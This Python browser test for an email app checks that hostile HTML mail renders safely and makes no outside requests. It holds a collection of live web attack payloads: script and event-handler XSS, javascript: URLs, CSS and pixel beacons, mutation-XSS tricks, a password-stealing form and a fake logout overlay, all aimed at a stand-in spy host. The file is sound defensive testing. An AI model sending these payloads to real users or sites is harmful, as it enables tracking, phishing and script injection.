"""HTML mail that tries: shown safely or as text, no request leaves the page, and the policy has nothing to report.

That it reports nothing is the point: what the policy would have to stop has been taken out before.
"""

# ruff: noqa: E501 - attacks are easier to read in one piece
from __future__ import annotations

from collections.abc import Callable, Iterable
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect
from sqlalchemy import select

from gmail_sync.sandbox import Sandbox
from tests.browser.conftest import Served, Watched
from tests.browser.test_pages import connect, sign_in
from tests.sandbox_fixtures import ALICE
from tracker.messages import Message

pytestmark = pytest.mark.browser

AWAY = "http://127.0.0.1:9/spy"
RUN = "top.document.title=document.title='pwned'"
ATTACKS = {
    "scripts": f"<script>{RUN}</script><script src='{AWAY}.js'></script><scr<script>ipt>{RUN}</script>",
    "handlers": f'<img src=x onerror="{RUN}"><body onload="{RUN}"><div onmouseover="{RUN}" style=\'width:99%\'>x</div>'
    f'<details open ontoggle="{RUN}"><input autofocus onfocus="{RUN}"></details>',
    "javascript": f"<a href='java\tscript:{RUN}'>here</a><iframe src=\"javascript:{RUN}\"></iframe>"
    f"<a href='data:text/html,<script>{RUN}</script>'>or here</a>",
    "css": f"<style>@import '{AWAY}.css'; body{{background:url({AWAY}.png)}} @font-face{{font-family:a;src:url({AWAY}.woff)}}"
    f"*{{font-family:a}}</style><p style=\"background:url('{AWAY}.png');list-style-image:u\\72l({AWAY}.png)\">x</p>"
    f"<link rel=stylesheet href='{AWAY}.css'><link rel=prefetch href='{AWAY}'><link rel=dns-prefetch href='//spy.test'>",
    "forms": f"<form action='{AWAY}' id=f><input name=password type=password><button autofocus>Go</button></form>"
    f"<button form=f formaction='{AWAY}'>x</button>",
    "refresh": f"<meta http-equiv=refresh content='0;url={AWAY}'><meta http-equiv=Set-Cookie content='a=b'>"
    f"<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "svg": f"<svg onload=\"{RUN}\"><image href='{AWAY}.svg'/><use href='{AWAY}.svg#a'/><foreignObject><script>{RUN}"
    f'</script></foreignObject><animate onbegin="{RUN}" attributeName=x dur=1s></svg>'
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{AWAY}'/></svg>\">",
    "base": f"<base href='{AWAY}/'><base target=_top><a href='x'>relative</a><img src='relative.png'>",
    "pixels": f"<img src='{AWAY}.gif' width=1 height=1><img srcset='{AWAY}.gif 1x'><picture><source srcset='{AWAY}.gif'>"
    f"<img src='{AWAY}.gif'></picture><video poster='{AWAY}.gif' src='{AWAY}.mp4' autoplay></video>"
    f"<table background='{AWAY}.gif'><tr><td background='{AWAY}.gif'>x</table><object data='{AWAY}'></object>"
    f"<embed src='{AWAY}'><audio src='{AWAY}' autoplay></audio><iframe src='{AWAY}'></iframe>",
    "mutants": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src={AWAY} onerror='{RUN}'&gt;\">"
    f"<noscript><p title=\"</noscript><img src={AWAY} onerror='{RUN}'>\"><template><script>{RUN}</script></template>"
    f"<title><a title='</title><img src={AWAY} onerror=\"{RUN}\">'>",
    "nesting": "<div>" * 30_000 + f"<img src='{AWAY}'>deep" + "<b>" * 20_000,
    "clobbering": "<a id=csrf_token name=body>x</a><form name=body><input name=cookie></form><img name=getElementById>"
    "<div style='position:fixed;inset:0;z-index:9999;background:white'>Your session has ended</div>",
}


def raw(name: str, html: str) -> bytes:
    """The attack as a mail."""
    return (
        f"From: Dana <dana@{name}.test>\r\nTo: {ALICE}\r\nSubject: Try {name}\r\nMessage-ID: <{name}@evil.test>\r\n"
        "Date: Tue, 11 Aug 2026 08:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n"
        f"\r\n<p>Good morning.</p>{html}\r\n"
    ).encode()


def listening(served: Served) -> list[bytes]:
    """From now on the policy of every answer names a listener; what it hears."""
    heard: list[bytes] = []
    rest = served.app.wsgi_app

    def heeded(environ: dict[str, Any], start: Callable[..., Any]) -> Iterable[bytes]:
        if environ["PATH_INFO"] == "/csp-report":
            heard.append(environ["wsgi.input"].read(int(environ.get("CONTENT_LENGTH") or 0)))
            start("204 No Content", [])
            return []

        def with_report(status: str, headers: list[tuple[str, str]], *more: Any) -> Any:
            told = [
                (name, f"{value}; report-uri /csp-report" if name == "Content-Security-Policy" else value)
                for name, value in headers
            ]
            return start(status, told, *more)

        return rest(environ, with_report)

    served.app.wsgi_app = heeded  # type: ignore[method-assign]
    return heard


def look_at(page: Page, key: str) -> None:
    """The conversation, and each formatted mail in it unfolded; then the mail's frame by itself."""
    page.goto(f"/m/{key}")
    expect(page.locator("main")).to_be_visible()
    for summary in page.locator("summary", has_text="Formatted as sent").all():
        if summary.is_visible() and not page.locator("iframe").first.is_visible():
            summary.click()
    assert page.title() != "pwned"
    page.goto(f"/m/{key}/frame")
    page.mouse.move(200, 60)
    page.wait_for_timeout(120)
    assert page.title() != "pwned"
    assert urlsplit(page.url).path == f"/m/{key}/frame"


def test_hostile_mail_is_shown_safely(watched: Watched, served: Served, sandbox: Sandbox) -> None:
    heard, page = listening(served), watched.page
    for name, html in ATTACKS.items():
        sandbox.deliver(raw(name, html), [ALICE])
    sign_in(page)
    connect(page, served)
    with served.app.extensions["gmail_sync"].services.sessions() as session:
        mails = {one.subject: one.key for one in session.execute(select(Message.subject, Message.key))}
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    page.context.on("page", lambda opened: asked.append(f"a window: {opened.url}"))
    for name in ATTACKS:
        look_at(page, mails[f"Try {name}"])
    assert [one for one in asked if not one.startswith((served.url, "data:image/"))] == []
    assert heard == []
    assert watched.complaints == []
    _both_can_hear(page, heard, asked)


def _both_can_hear(page: Page, heard: list[bytes], asked: list[str]) -> None:
    """What the test listens with is no deaf ear."""
    page.goto("/inbox")
    page.evaluate(f"fetch('{AWAY}').catch(() => null)")
    page.evaluate("location = 'http://127.0.0.1:9/away'")
    page.wait_for_timeout(500)
    assert any(b"connect-src" in one for one in heard)
    assert any(one.endswith("/away") for one in asked)
